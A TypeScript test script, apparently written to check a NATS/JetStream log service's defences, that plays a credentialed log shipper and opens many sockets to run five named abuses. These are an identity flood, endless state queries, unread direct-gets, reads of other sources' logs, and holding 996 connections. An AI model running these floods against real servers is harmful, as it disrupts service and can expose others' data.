import { randomBytes } from "node:crypto"
import type { Socket } from "node:net"
import { flood, insisting } from "./insisting.ts"

/*
 * What a shipper of one source may try that `credentials --add` has let in, as bytes on sockets.
 *
 *   node shipper-attacks.ts NAME PORT MS, with the user, the password and the source in EVIL_USER, EVIL_PASSWORD and EVIL_SOURCE
 */

const { EVIL_USER: user = "", EVIL_PASSWORD: pass = "", EVIL_SOURCE: source = "" } = process.env
const inbox = "_INBOX.attack"
const hello = `CONNECT ${JSON.stringify({ verbose: false, pedantic: false, headers: true, no_responders: true, user, pass })}\r\nSUB ${inbox}.* 1\r\n`

const publish = (subject: string, body = "") => `PUB ${subject} ${inbox}.x ${Buffer.byteLength(body)}\r\n${body}\r\n`

/** A line of its own source with an identity of its choice. */
const identified = (id: string) => {
  const head = `NATS/1.0\r\nNats-Msg-Id: ${id}\r\n\r\n`
  return `HPUB logs.${source} ${head.length} ${head.length + 1}\r\n${head}x\r\n`
}

/**
 * Each attack by its name: whether its connections read, how many there are, and what each says.
 */
export const attacks = {
  "sends a hundred thousand identities to keep others' lines out": {
    talk: (socket: Socket) => {
      socket.write(hello)
      let left = 100_000 / connections
      flood(socket, () => {
        if (left <= 0) return publish("$JS.API.INFO")
        left -= 100
        return Array.from({ length: 100 }, () => identified(randomBytes(12).toString("base64url"))).join("")
      })
    },
    reads: true
  },
  "asks for LOGS' state without end": {
    talk: (socket: Socket) => {
      socket.write(hello)
      flood(socket, () => publish("$JS.API.STREAM.INFO.LOGS").repeat(1_000))
    },
    reads: true
  },
  "asks for its own last line and reads nothing": {
    talk: (socket: Socket) => {
      socket.write(hello)
      flood(socket, () => publish(`$JS.API.DIRECT.GET.LOGS.logs.${source}`).repeat(1_000))
    },
    reads: false
  },
  "asks for others' lines": {
    talk: (socket: Socket) => {
      socket.write(hello)
      flood(socket, () => publish("$JS.API.DIRECT.GET.LOGS", '{"seq":1}').repeat(100))
    },
    reads: true
  },
  "holds 996 connections": { talk: (socket: Socket) => void socket.write(hello), reads: true, places: 996 }
} as const satisfies {
  readonly [name: string]: {
    readonly talk: (socket: Socket) => void
    readonly reads: boolean
    readonly places?: number
  }
}

/** More than its account has. */
const connections = 16

if (import.meta.filename === process.argv[1]) {
  const [, , name, port, ms] = process.argv
  const attack = attacks[name as keyof typeof attacks]
  insisting(Number(port), attack.talk, "places" in attack ? attack.places : connections, attack.reads)
  setTimeout(() => process.exit(0), Number(ms))
}
